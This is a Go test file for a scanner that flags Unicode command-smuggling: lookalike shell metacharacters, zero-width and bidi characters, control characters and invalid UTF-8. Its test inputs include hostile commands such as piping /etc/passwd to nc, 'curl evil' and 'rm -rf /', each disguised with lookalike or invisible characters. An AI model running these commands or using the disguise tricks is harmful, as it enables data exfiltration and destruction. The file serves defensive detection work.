package unicode

import (
	"strings"
	"testing"
)

func TestScan_Lookalikes(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		ascii   string
		mention string
	}{
		{"greek question mark", "echo hi\u037E whoami", ";", "U+037E"},
		{"fullwidth pipe", "cat /etc/passwd \uFF5C nc host 80", "|", "U+FF5C"},
		{"fullwidth ampersand", "sleep 1 \uFF06 curl evil", "&", "U+FF06"},
		{"reversed prime backtick", "echo \u2035whoami\u2035", "`", "U+2035"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := Scan(tt.input)
			if result.Clean {
				t.Fatal("expected a threat")
			}
			threat := result.Threats[0]
			if threat.Category != "lookalike" {
				t.Fatalf("expected lookalike, got %s", threat.Category)
			}
			if !strings.Contains(threat.Description, tt.mention) {
				t.Errorf("description %q does not name %s", threat.Description, tt.mention)
			}
			if !strings.Contains(threat.Description, tt.ascii) {
				t.Errorf("description %q does not name the confused metacharacter %q", threat.Description, tt.ascii)
			}
		})
	}
}

func TestScan_InvisibleAndControl(t *testing.T) {
	tests := []struct {
		name     string
		input    string
		category string
	}{
		{"zero width space", "rm \u200B-rf /", "zero-width"},
		{"byte order mark", "\uFEFFgit status", "zero-width"},
		{"rtl override", "echo \u202Etxt.sh", "bidi-override"},
		{"tag char", "ls \U000e0041", "tag-char"},
		{"escape control", "echo \x1b[31m", "control-char"},
		{"nbsp separator", "echo hi\u00A0whoami", "lookalike"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := Scan(tt.input)
			if result.Clean {
				t.Fatal("expected a threat")
			}
			if got := result.Threats[0].Category; got != tt.category {
				t.Errorf("category = %s, want %s", got, tt.category)
			}
		})
	}
}

func TestScan_PositionAndMultiple(t *testing.T) {
	input := "ab\u200Bcd\u037E"
	result := Scan(input)
	if len(result.Threats) != 2 {
		t.Fatalf("expected 2 threats, got %d", len(result.Threats))
	}
	if result.Threats[0].Position != 2 {
		t.Errorf("first threat position = %d, want 2", result.Threats[0].Position)
	}
	if desc := Describe(result.Threats); !strings.Contains(desc, "; ") {
		t.Errorf("Describe must join all threats, got %q", desc)
	}
}

func TestScan_CleanInput(t *testing.T) {
	tests := []string{
		"ls -la /tmp",
		"git commit -m 'fix: handle tabs\tand newlines\n'",
		"grep -r pattern .",
	}
	for _, input := range tests {
		if result := Scan(input); !result.Clean {
			t.Errorf("input %q: unexpected threats %+v", input, result.Threats)
		}
	}
}

func TestScan_InvalidUTF8(t *testing.T) {
	result := Scan("echo \xff\xfe hi")
	if result.Clean {
		t.Fatal("expected a threat")
	}
	if result.Threats[0].Category != "invalid-utf8" {
		t.Errorf("category = %s, want invalid-utf8", result.Threats[0].Category)
	}
}
